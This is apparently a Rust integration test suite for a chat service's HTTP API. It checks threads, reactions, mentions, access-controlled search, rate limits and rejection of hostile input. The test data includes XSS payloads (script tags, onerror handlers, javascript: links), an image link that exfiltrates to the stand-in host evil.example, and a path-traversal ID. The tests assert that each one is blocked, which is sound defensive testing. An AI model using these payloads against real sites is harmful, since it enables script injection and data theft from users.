//! Chat behaviour over HTTP: idempotent posts, threads, reactions, edits and
//! deletions, mentions, unread counts, search that respects access, posting
//! limits, and hostile input (SECURITY-CASES 12, 23).

mod common;

use common::{Backend, TestApp};
use hyper::{Method, StatusCode};
use serde_json::json;

async fn idempotent_posts_return_the_original(app: &TestApp) {
    let u = app.user("poster", "member", None).await;
    let ch = app.channel(&u, "ideas", "public", None).await;
    let path = format!("/api/v1/channels/{ch}/messages");
    let first = app
        .post(
            &path,
            &u.token,
            json!({"body": "ship it", "idempotency_key": "k-1"}),
        )
        .await;
    assert_eq!(first.status, StatusCode::CREATED);
    assert!(first.json["seq"].as_i64().unwrap() >= 1);
    let retry = app
        .post(
            &path,
            &u.token,
            json!({"body": "ship it", "idempotency_key": "k-1"}),
        )
        .await;
    assert_eq!(retry.status, StatusCode::OK, "a retry is not a new message");
    assert_eq!(retry.json["id"], first.json["id"]);
    assert_eq!(retry.json["seq"], first.json["seq"]);
    // Concurrent retries of one key still make one message.
    let mut tries = Vec::new();
    for _ in 0..8 {
        tries.push(app.post(
            &path,
            &u.token,
            json!({"body": "once", "idempotency_key": "k-2"}),
        ));
    }
    let results = futures_util::future::join_all(tries).await;
    let ids: std::collections::BTreeSet<String> = results
        .iter()
        .map(|r| r.json["id"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(ids.len(), 1);
    assert_eq!(
        results
            .iter()
            .filter(|r| r.status == StatusCode::CREATED)
            .count(),
        1
    );
    let all = app.get(&path, &u.token).await.json;
    assert_eq!(all.as_array().unwrap().len(), 2);
    let bad = app
        .post(
            &path,
            &u.token,
            json!({"body": "x", "idempotency_key": "has space"}),
        )
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);
}

async fn threads_reactions_edits_and_deletes(app: &TestApp) {
    let a = app.user("ann", "member", None).await;
    let b = app.user("ben", "member", None).await;
    let ch = app.channel(&a, "product", "public", None).await;
    app.join(&b.token, &ch).await;
    let root = app.say(&a, &ch, "Should we raise prices?").await;
    let rid = root["id"].as_str().unwrap();
    let reply = app
        .post(
            &format!("/api/v1/channels/{ch}/messages"),
            &b.token,
            json!({"body": "Not before Q3", "thread_root": rid}),
        )
        .await;
    assert_eq!(reply.status, StatusCode::CREATED);
    let reply_id = reply.json["id"].as_str().unwrap();
    let nested = app
        .post(
            &format!("/api/v1/channels/{ch}/messages"),
            &a.token,
            json!({"body": "x", "thread_root": reply_id}),
        )
        .await;
    assert_eq!(
        nested.status,
        StatusCode::BAD_REQUEST,
        "threads are one level deep"
    );
    let thread = app
        .get(&format!("/api/v1/messages/{rid}/thread"), &a.token)
        .await
        .json;
    assert_eq!(thread.as_array().unwrap().len(), 2);
    let top = app
        .get(
            &format!("/api/v1/channels/{ch}/messages?top_level=true"),
            &a.token,
        )
        .await
        .json;
    assert_eq!(top.as_array().unwrap().len(), 1);
    assert_eq!(top[0]["reply_count"], 1);

    for who in [&a, &b] {
        let r = app
            .call(
                Method::PUT,
                &format!("/api/v1/messages/{rid}/reactions/thumbsup"),
                Some(&who.token),
                None,
            )
            .await;
        assert_eq!(r.status, StatusCode::NO_CONTENT);
    }
    app.call(
        Method::PUT,
        &format!("/api/v1/messages/{rid}/reactions/thumbsup"),
        Some(&a.token),
        None,
    )
    .await;
    let m = app
        .get(&format!("/api/v1/messages/{rid}"), &a.token)
        .await
        .json;
    assert_eq!(m["reactions"][0]["count"], 2, "reacting twice counts once");
    app.call(
        Method::DELETE,
        &format!("/api/v1/messages/{rid}/reactions/thumbsup"),
        Some(&b.token),
        None,
    )
    .await;
    assert_eq!(
        app.get(&format!("/api/v1/messages/{rid}"), &a.token)
            .await
            .json["reactions"][0]["count"],
        1
    );
    let bad = app
        .call(
            Method::PUT,
            &format!("/api/v1/messages/{rid}/reactions/%3Cscript%3E"),
            Some(&a.token),
            None,
        )
        .await;
    assert_eq!(bad.status, StatusCode::BAD_REQUEST);

    // Only the author edits; the edit is visible and marked.
    let e = app
        .call(
            Method::PATCH,
            &format!("/api/v1/messages/{reply_id}"),
            Some(&a.token),
            Some(json!({"body": "hijack"})),
        )
        .await;
    assert_eq!(e.status, StatusCode::FORBIDDEN);
    let e = app
        .call(
            Method::PATCH,
            &format!("/api/v1/messages/{reply_id}"),
            Some(&b.token),
            Some(json!({"body": "Not before Q4"})),
        )
        .await;
    assert_eq!(e.status, StatusCode::OK);
    assert_eq!(e.json["body"], "Not before Q4");
    assert!(e.json["edited_at"].is_string());
    // Deleting blanks the body everywhere, including search.
    let d = app
        .call(
            Method::DELETE,
            &format!("/api/v1/messages/{reply_id}"),
            Some(&b.token),
            None,
        )
        .await;
    assert_eq!(d.status, StatusCode::NO_CONTENT);
    let gone = app
        .get(&format!("/api/v1/messages/{reply_id}"), &a.token)
        .await
        .json;
    assert_eq!(gone["deleted"], true);
    assert_eq!(gone["body"], "");
    assert!(app
        .get("/api/v1/search?q=Q4", &a.token)
        .await
        .json
        .as_array()
        .unwrap()
        .is_empty());
}

async fn mentions_and_unread_counts(app: &TestApp) {
    let a = app.user("amy", "member", None).await;
    let b = app.user("bo", "member", None).await;
    let ch = app.channel(&a, "ops", "public", None).await;
    app.join(&b.token, &ch).await;
    app.say(&a, &ch, "hey @bo can you check the carrier contract?")
        .await;
    app.say(&a, &ch, "and the warehouse numbers").await;
    let mine = app.get("/api/v1/mentions", &b.token).await.json;
    assert_eq!(mine.as_array().unwrap().len(), 1);
    assert!(mine[0]["body"].as_str().unwrap().contains("@bo"));
    let list = app.get("/api/v1/channels", &b.token).await.json;
    let ops = list
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == ch.as_str())
        .unwrap();
    assert_eq!(ops["unread"], 2);
    let latest = ops["last_seq"].as_i64().unwrap();
    let r = app
        .post(
            &format!("/api/v1/channels/{ch}/read"),
            &b.token,
            json!({"seq": latest}),
        )
        .await;
    assert_eq!(r.json["seq"], latest);
    let list = app.get("/api/v1/channels", &b.token).await.json;
    let ops = list
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["id"] == ch.as_str())
        .unwrap();
    assert_eq!(ops["unread"], 0);
    // The author's own messages never count as unread.
    let list = app.get("/api/v1/channels", &a.token).await.json;
    assert_eq!(
        list.as_array()
            .unwrap()
            .iter()
            .find(|c| c["id"] == ch.as_str())
            .unwrap()["unread"],
        0
    );
}

async fn search_only_finds_what_the_reader_may_read(app: &TestApp) {
    let admin = app.user("boss", "admin", Some("restricted:hr")).await;
    let member = app.user("pat", "member", Some("internal")).await;
    let public = app
        .channel(&admin, "general", "public", Some("internal"))
        .await;
    let private = app
        .channel(&admin, "board", "private", Some("internal"))
        .await;
    let hr = app
        .channel(&admin, "hr-cases", "public", Some("confidential:hr"))
        .await;
    app.say(&admin, &public, "The kestrel launch slips to March")
        .await;
    app.say(&admin, &private, "The kestrel acquisition is confidential")
        .await;
    app.say(&admin, &hr, "Kestrel salary bands attached").await;
    let hits = app
        .get("/api/v1/search?q=kestrel", &member.token)
        .await
        .json;
    let bodies: Vec<&str> = hits
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["body"].as_str().unwrap())
        .collect();
    assert_eq!(
        bodies,
        vec!["The kestrel launch slips to March"],
        "private and uncleared channels stay hidden"
    );
    let all = app.get("/api/v1/search?q=kestrel", &admin.token).await.json;
    assert_eq!(all.as_array().unwrap().len(), 3);
    // Search syntax in user input is only text.
    for q in ["kestrel AND", "\"unbalanced", "NEAR(a b)", "*", "col:val"] {
        let r = app
            .get(&format!("/api/v1/search?q={}", urlencode(q)), &member.token)
            .await;
        assert_eq!(r.status, StatusCode::OK, "query {q:?}: {:?}", r.json);
    }
    assert_eq!(
        app.get("/api/v1/search?q=", &member.token).await.status,
        StatusCode::BAD_REQUEST
    );
}

fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

async fn hostile_input_gets_clear_errors_and_nothing_half_written(app: &TestApp) {
    let u = app.user("mallory", "member", None).await;
    let ch = app.channel(&u, "target", "public", None).await;
    let path = format!("/api/v1/channels/{ch}/messages");
    let cases: Vec<(&str, Option<&str>, Vec<u8>, StatusCode)> = vec![
        (
            "malformed JSON",
            Some("application/json"),
            b"{\"body\": ".to_vec(),
            StatusCode::BAD_REQUEST,
        ),
        (
            "wrong type",
            Some("application/json"),
            br#"{"body": 42}"#.to_vec(),
            StatusCode::BAD_REQUEST,
        ),
        (
            "unknown field",
            Some("application/json"),
            br#"{"body": "x", "admin": true}"#.to_vec(),
            StatusCode::BAD_REQUEST,
        ),
        (
            "invalid UTF-8",
            Some("application/json"),
            b"{\"body\": \"\xff\xfe\"}".to_vec(),
            StatusCode::BAD_REQUEST,
        ),
        (
            "no content type",
            None,
            br#"{"body": "x"}"#.to_vec(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
        (
            "deeply nested",
            Some("application/json"),
            format!("{}{}", "[".repeat(5000), "]".repeat(5000)).into_bytes(),
            StatusCode::BAD_REQUEST,
        ),
        (
            "huge body",
            Some("application/json"),
            format!("{{\"body\": \"{}\"}}", "a".repeat(400 * 1024)).into_bytes(),
            StatusCode::PAYLOAD_TOO_LARGE,
        ),
        (
            "too long message",
            Some("application/json"),
            format!("{{\"body\": \"{}\"}}", "a".repeat(9000)).into_bytes(),
            StatusCode::PAYLOAD_TOO_LARGE,
        ),
        (
            "empty body",
            Some("application/json"),
            br#"{"body": "   "}"#.to_vec(),
            StatusCode::BAD_REQUEST,
        ),
        (
            "NUL",
            Some("application/json"),
            br#"{"body": "a\u0000b"}"#.to_vec(),
            StatusCode::BAD_REQUEST,
        ),
    ];
    for (what, ct, body, expected) in cases {
        let r = app.raw(Method::POST, &path, Some(&u.token), ct, body).await;
        assert_eq!(r.status, expected, "{what}: {:?}", r.json);
        assert!(
            r.json["error"]["code"].is_string(),
            "{what}: error body is JSON: {:?}",
            r.json
        );
        assert!(r.json["error"]["message"].is_string(), "{what}");
    }
    let bad_q = app.get(&format!("{path}?after_seq=abc"), &u.token).await;
    assert_eq!(bad_q.status, StatusCode::BAD_REQUEST);
    assert_eq!(bad_q.code(), "invalid_input");
    let bad_id = app.get("/api/v1/channels/..%2F..%2Fetc", &u.token).await;
    assert_eq!(bad_id.status, StatusCode::BAD_REQUEST);
    assert_eq!(app.get("/api/v1/nope", &u.token).await.code(), "not_found");
    // Nothing was written, and the server still serves.
    assert!(app
        .get(&path, &u.token)
        .await
        .json
        .as_array()
        .unwrap()
        .is_empty());
    app.say(&u, &ch, "still here").await;
    assert_eq!(
        app.call(Method::GET, "/healthz", None, None).await.status,
        StatusCode::OK
    );
    assert_eq!(
        app.call(Method::GET, "/readyz", None, None).await.status,
        StatusCode::OK
    );
}

async fn rendered_html_is_sanitized_and_pages_carry_a_strict_csp(app: &TestApp) {
    let u = app.user("xss", "member", None).await;
    let ch = app.channel(&u, "xss", "public", None).await;
    let m = app
        .say(&u, &ch, "<script>alert(1)</script><img src=x onerror=alert(2)> [click](javascript:alert(3)) ![x](https://evil.example/?d=SECRET)")
        .await;
    let html = m["body_html"].as_str().unwrap();
    for bad in ["<script", "onerror=", "href=\"javascript", "<img", "src="] {
        assert!(!html.contains(bad), "{bad} survived: {html}");
    }
    let m = app
        .say(
            &u,
            &ch,
            "[click](javascript:alert(3)) and ![x](https://evil.example/?d=SECRET)",
        )
        .await;
    let html = m["body_html"].as_str().unwrap();
    for bad in ["javascript:", "<img", "evil.example"] {
        assert!(!html.contains(bad), "{bad} survived: {html}");
    }
    let r = app.call(Method::GET, "/", None, None).await;
    let csp = r
        .headers
        .get("content-security-policy")
        .unwrap()
        .to_str()
        .unwrap();
    assert!(
        csp.contains("img-src 'self'")
            && csp.contains("script-src 'self'")
            && !csp.contains("unsafe-inline")
    );
}

async fn users_are_validated(app: &TestApp) {
    let admin = app.user("chief", "admin", None).await;
    let cases = [
        (
            json!({"handle": "x", "role": "member", "password": "long enough password"}),
            "short handle",
        ),
        (
            json!({"handle": "new-user", "role": "emperor", "password": "long enough password"}),
            "unknown role",
        ),
        (
            json!({"handle": "new-user", "role": "member", "password": "short"}),
            "weak password",
        ),
        (
            json!({"handle": "new-user", "role": "member"}),
            "no password",
        ),
        (
            json!({"handle": "new-user", "role": "member", "password": "long enough password", "clearance": "cosmic"}),
            "bad clearance",
        ),
        (
            json!({"handle": "new-user", "role": "agent", "password": "long enough password"}),
            "human with agent role",
        ),
    ];
    for (body, what) in cases {
        let r = app.post("/api/v1/users", &admin.token, body).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{what}: {:?}", r.json);
    }
    let ok = app
        .post(
            "/api/v1/users",
            &admin.token,
            json!({"handle": "new-user", "role": "member", "password": "long enough password"}),
        )
        .await;
    assert_eq!(ok.status, StatusCode::CREATED);
    let dup = app
        .post(
            "/api/v1/users",
            &admin.token,
            json!({"handle": "New-User", "role": "member", "password": "long enough password"}),
        )
        .await;
    assert_eq!(dup.status, StatusCode::CONFLICT);
    let agent = app.post("/api/v1/users", &admin.token, json!({"handle": "sales-bot-1", "role": "agent", "kind": "agent", "department": "sales"})).await;
    assert_eq!(agent.status, StatusCode::CREATED, "{:?}", agent.json);
    assert_eq!(agent.json["kind"], "agent");
}

async fn archived_channels_are_read_only(app: &TestApp) {
    let u = app.user("arch", "member", None).await;
    let ch = app.channel(&u, "old", "public", None).await;
    app.say(&u, &ch, "last words").await;
    assert_eq!(
        app.post(
            &format!("/api/v1/channels/{ch}/archive"),
            &u.token,
            json!({})
        )
        .await
        .status,
        StatusCode::NO_CONTENT
    );
    let r = app
        .post(
            &format!("/api/v1/channels/{ch}/messages"),
            &u.token,
            json!({"body": "more"}),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert_eq!(
        app.get(&format!("/api/v1/channels/{ch}/messages"), &u.token)
            .await
            .json
            .as_array()
            .unwrap()
            .len(),
        1
    );
}

on_both_backends!(
    idempotent_posts_return_the_original,
    threads_reactions_edits_and_deletes,
    mentions_and_unread_counts,
    search_only_finds_what_the_reader_may_read,
    hostile_input_gets_clear_errors_and_nothing_half_written,
    rendered_html_is_sanitized_and_pages_carry_a_strict_csp,
    users_are_validated,
    archived_channels_are_read_only,
);

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn posting_is_rate_limited_per_user() {
    let app = TestApp::start(Backend::Sqlite, |s| {
        s.limits.posts_per_second = 1.0;
        s.limits.post_burst = 5.0;
    })
    .await;
    let a = app.user("flood", "member", None).await;
    let b = app.user("calm", "member", None).await;
    let ch = app.channel(&a, "flooded", "public", None).await;
    app.join(&b.token, &ch).await;
    let path = format!("/api/v1/channels/{ch}/messages");
    let mut statuses = Vec::new();
    for i in 0..8 {
        statuses.push(
            app.post(&path, &a.token, json!({"body": format!("spam {i}")}))
                .await
                .status,
        );
    }
    assert_eq!(
        statuses
            .iter()
            .filter(|s| **s == StatusCode::CREATED)
            .count(),
        5
    );
    assert!(statuses.contains(&StatusCode::TOO_MANY_REQUESTS));
    // Another user is unaffected.
    assert_eq!(
        app.post(&path, &b.token, json!({"body": "hello"}))
            .await
            .status,
        StatusCode::CREATED
    );
    app.stop().await;
}
